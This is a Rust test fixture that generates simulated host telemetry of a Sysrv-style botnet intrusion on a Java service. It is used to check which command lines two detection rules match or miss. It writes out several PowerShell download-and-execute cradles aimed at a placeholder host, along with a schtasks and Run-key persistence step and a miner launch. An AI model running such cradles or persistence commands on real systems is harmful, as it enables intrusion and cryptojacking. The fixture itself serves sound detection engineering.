//! A Java service with an open console port is made to run a download cradle, as the Sysrv botnet does; beside it the
//! commands that look alike and that the rule must not take for it.

use std::rc::Rc;

use serde_json::{Map, json};

use super::host::{Account, Act, Host, Process, RegistryValue, Remote, SYSTEM_ACCOUNT, clock};
use super::images::{self, Image};
use super::ordinary::{Booted, ORDINARY, boot};
use super::record::{MILLISECOND, SECOND, Schema, Ticks, UnknownName};
use super::scenario::{Expectations, Form, JAVA_CRADLE, JAVA_DOWNLOAD, Scenario};

static ORDERS: Account = Account {
    domain: "CORP",
    name: "svc_orders",
    sid: "S-1-5-21-1757981266-1645522239-839522115-2214",
    integrity: "High",
    elevation: "TokenElevationTypeDefault",
    logon_id: 311_802,
    session: 0,
};

static ADMINISTRATOR: Account = Account {
    domain: "CORP",
    name: "adm.nowak",
    sid: "S-1-5-21-1757981266-1645522239-839522115-1219",
    integrity: "High",
    elevation: "TokenElevationTypeFull",
    logon_id: 4_118_220,
    session: 2,
};

const STAGE: Remote<'static> = Remote { address: "203.0.113.90", port: 80, url: "203.0.113.90" };
const POOL: Remote<'static> = Remote { address: "198.51.100.150", port: 3333, url: "pool.example.net" };

/// Starts cmd.exe with its console.
fn shell(host: &mut Host, at: Ticks, parent: &Rc<Process>, command_line: &str) -> (Act, Rc<Process>) {
    let (act, process) = host.start(at, parent, &images::CMD, command_line);
    host.start(
        at + 14 * MILLISECOND,
        &process,
        &images::CONHOST,
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    );
    (act, process)
}

pub fn java_sysrv(day: Ticks, schema: &Schema) -> Result<Scenario, UnknownName> {
    let mut host = Host::new("app01.corp.example", "10.20.4.52", 0x5eed_0002);
    let mut expect = Expectations::default();
    let booted = boot(&mut host, clock(day, 7, 5, 11));
    host.describe(clock(day, 7, 6, 0), "192.0.2.52");
    let at = clock(day, 7, 5, 40);
    let (_, runner) = host.start_as(
        at,
        &booted.services,
        &images::PRUNSRV,
        r"C:\Orders\bin\orders-service.exe //RS//Orders",
        &ORDERS,
    );
    let (_, java) = host.start(
        at + 720 * MILLISECOND,
        &runner,
        &images::JAVA,
        &format!("\"{}\" -Xms1g -Xmx4g -Dserver.port=8080 -jar C:\\Orders\\lib\\orders.jar", images::JAVA.path),
    );
    booted.fill(&mut host, clock(day, 7, 8, 0), clock(day, 11, 40, 0), 70, &ORDINARY);
    ordinary_shells(&mut host, day, &java, &mut expect);
    break_in(&mut host, day, &java, &mut expect);
    look_alikes(&mut host, day, &booted, &runner, &java, &mut expect);
    booted.fill(&mut host, clock(day, 12, 30, 0), clock(day, 13, 30, 0), 35, &ORDINARY);
    Scenario::new("java-sysrv", Form::Lines, host, expect, schema)
}

/// What the service itself starts every day.
fn ordinary_shells(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expectations) {
    let (act, _) = shell(host, clock(day, 7, 5, 44), java, "cmd.exe /c ver");
    expect.misses(JAVA_CRADLE, act, "a shell without PowerShell: the service asks for the version of Windows");
    expect.misses(JAVA_DOWNLOAD, act, "a shell without PowerShell: the service asks for the version of Windows");
    let (act, label) = shell(host, clock(day, 9, 20, 3), java, "cmd.exe /c \"C:\\Orders\\bin\\print-label.cmd 4711\"");
    expect.misses(JAVA_CRADLE, act, "a shell without PowerShell: a batch file of the service");
    expect.misses(JAVA_DOWNLOAD, act, "a shell without PowerShell: a batch file of the service");
    let (_, print) = host.start(
        clock(day, 9, 20, 4),
        &label,
        &images::POWERSHELL,
        r"powershell -File C:\Orders\bin\print-label.ps1 4711",
    );
    host.load(clock(day, 9, 20, 4) + 200 * MILLISECOND, &print, &images::AMSI);
}

fn break_in(host: &mut Host, day: Ticks, java: &Rc<Process>, expect: &mut Expectations) {
    let intruder = Remote { address: "203.0.113.88", port: 8080, url: "" };
    host.connect(clock(day, 11, 42, 6), java, "InboundConnectionAccepted", &intruder);
    let at = clock(day, 11, 42, 7);
    let command_line = "cmd /c powershell iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
    let (act, first) = shell(host, at, java, command_line);
    expect.matches(JAVA_CRADLE, act, "the first request: iex over DownloadString in one command");
    expect.matches(JAVA_DOWNLOAD, act, "the first request: iex over DownloadString in one command");
    let script = "powershell  iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
    let (_, loader) = host.start(at + 120 * MILLISECOND, &first, &images::POWERSHELL, script);
    run_loader(host, at + SECOND, &loader);

    host.connect(clock(day, 11, 42, 30), java, "InboundConnectionAccepted", &intruder);
    let at = clock(day, 11, 42, 31);
    let command_line =
        "cmd.exe /c start /b powershell iex((new-object net.webclient).downloadstring('http://203.0.113.90/ldr.ps1'))";
    let (act, again) = shell(host, at, java, command_line);
    expect.matches(JAVA_CRADLE, act, "the same in lower case: has_all does not mind case");
    expect.matches(JAVA_DOWNLOAD, act, "the same in lower case: has_all does not mind case");
    let (_, second) = host.start(
        at + 95 * MILLISECOND,
        &again,
        &images::POWERSHELL,
        "powershell  iex((new-object net.webclient).downloadstring('http://203.0.113.90/ldr.ps1'))",
    );
    host.connect(at + SECOND, &second, "ConnectionSuccess", &STAGE);

    host.connect(clock(day, 11, 58, 18), java, "InboundConnectionAccepted", &intruder);
    let at = clock(day, 11, 58, 19);
    let command_line = "cmd /c \"powershell iex(New-Object System.Net.WebClient).DownloadString('http://203.0.113.90/sys.ps1'); exit\"";
    let (act, last) = shell(host, at, java, command_line);
    expect.matches(JAVA_CRADLE, act, "a second script, sixteen minutes later");
    expect.matches(JAVA_DOWNLOAD, act, "a second script, sixteen minutes later");
    let (_, third) = host.start(
        at + 110 * MILLISECOND,
        &last,
        &images::POWERSHELL,
        "powershell iex(New-Object System.Net.WebClient).DownloadString('http://203.0.113.90/sys.ps1'); exit",
    );
    host.connect(at + SECOND, &third, "ConnectionFailed", &STAGE);
}

/// The script fetches a loader, which fetches the miner and makes itself a task.
fn run_loader(host: &mut Host, at: Ticks, powershell: &Rc<Process>) {
    host.load(at - 600 * MILLISECOND, powershell, &images::AMSI);
    host.connect(at, powershell, "ConnectionSuccess", &STAGE);
    host.other(at + 40 * MILLISECOND, powershell, "PowerShellCommand", json!({"Command": "Invoke-Expression"}));
    host.other(
        at + 90 * MILLISECOND,
        powershell,
        "AmsiScriptContent",
        json!({"Description": "$u='http://203.0.113.90/sys.exe';$p=$env:TEMP+'\\sys.exe'"}),
    );
    let origin = Map::from_iter([("url".to_owned(), json!("http://203.0.113.90/sys.exe"))]);
    host.file_with(at + 2 * SECOND, powershell, "FileCreated", images::LOADER.path, origin);
    let (_, loader) = host.start(at + 4 * SECOND, powershell, &images::LOADER, &format!("\"{}\"", images::LOADER.path));
    host.file(at + 6 * SECOND, &loader, "FileCreated", images::MINER.path);
    let (_, miner) =
        host.start(at + 7 * SECOND, &loader, &images::MINER, &format!("{} -B --donate-level 1", images::MINER.path));
    for minute in 0..5 {
        host.connect(at + 8 * SECOND + minute * 180 * SECOND, &miner, "ConnectionSuccess", &POOL);
    }
    let task = r"schtasks /create /tn BrowserUpdate /tr C:\Windows\Temp\sys.exe /sc minute /mo 5 /f";
    let (_, command) = shell(host, at + 9 * SECOND, &loader, &format!("cmd /c {task}"));
    host.start(at + 9 * SECOND + 70 * MILLISECOND, &command, &images::SCHTASKS, task);
    host.other(
        at + 9 * SECOND + 160 * MILLISECOND,
        &command,
        "ScheduledTaskCreated",
        json!({"TaskName": "\\BrowserUpdate", "TaskContent": "C:\\Windows\\Temp\\sys.exe"}),
    );
    let run = RegistryValue {
        key: r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        kind: "String",
        name: "BrowserUpdate",
        data: r"C:\Windows\Temp\sys.exe",
        previous: "",
    };
    host.registry(at + 10 * SECOND, &loader, "RegistryValueSet", &run);
}

/// Commands of other programs, or with other words, that one predicate of the rule keeps out.
fn look_alikes(
    host: &mut Host,
    day: Ticks,
    booted: &Booted,
    runner: &Rc<Process>,
    java: &Rc<Process>,
    expect: &mut Expectations,
) {
    let cradle = "powershell iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')";
    let (act, _) = host.start(clock(day, 12, 1, 5), java, &images::POWERSHELL, cradle);
    expect.misses(JAVA_CRADLE, act, "FileName is powershell.exe: Java started it without a shell");
    expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
    let mut from = |host: &mut Host, minute: i64, image: &'static Image, why: &'static str| {
        let started = clock(day, 12, minute, 0);
        let (_, other) =
            host.start(started, runner, image, &format!("\"{}\" -jar C:\\Orders\\lib\\orders.jar", image.path));
        let (act, _) = shell(host, started + 20 * SECOND, &other, &format!("cmd /c {cradle}"));
        expect.misses(JAVA_CRADLE, act, why);
        expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
    };
    from(host, 3, &images::LEGACY_JAVA, "InitiatingProcessFileName is Java.exe: == minds case");
    from(host, 5, &images::JAVAW, "InitiatingProcessFileName is javaw.exe");

    let others = [
        (
            7,
            "cmd /c powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://203.0.113.90/ldr.ps1')",
            "options stand between powershell and iex",
        ),
        (8, "cmd /c powershell iex(irm http://203.0.113.90/ldr.ps1)", "no DownloadString"),
        (
            9,
            "cmd /c powershell iex(New-Object Net.WebClient).DownloadStringAsync('http://203.0.113.90/ldr.ps1')",
            "DownloadStringAsync is another word than DownloadString",
        ),
    ];
    for (minute, command_line, why) in others {
        let (act, _) = shell(host, clock(day, 12, minute, 0), java, command_line);
        expect.misses(JAVA_CRADLE, act, why);
        expect.matches(JAVA_DOWNLOAD, act, "what the narrower rule lets through");
    }

    let desk = Remote { address: "10.20.9.12", port: 52_114, url: "adm-ws2.corp.example" };
    let explorer = booted.log_on(host, clock(day, 12, 12, 0), &ADMINISTRATOR, &desk);
    let (act, _) = shell(
        host,
        clock(day, 12, 15, 30),
        &explorer,
        "\"cmd.exe\" /k powershell iex((New-Object Net.WebClient).DownloadString('https://intranet.corp.example/setup.ps1'))",
    );
    expect.misses(JAVA_CRADLE, act, "an administrator's own shell: InitiatingProcessFileName is explorer.exe");
    expect.misses(JAVA_DOWNLOAD, act, "an administrator's own shell: InitiatingProcessFileName is explorer.exe");
    host.logon(clock(day, 12, 20, 0), &booted.services, "Service", &SYSTEM_ACCOUNT, None);
}
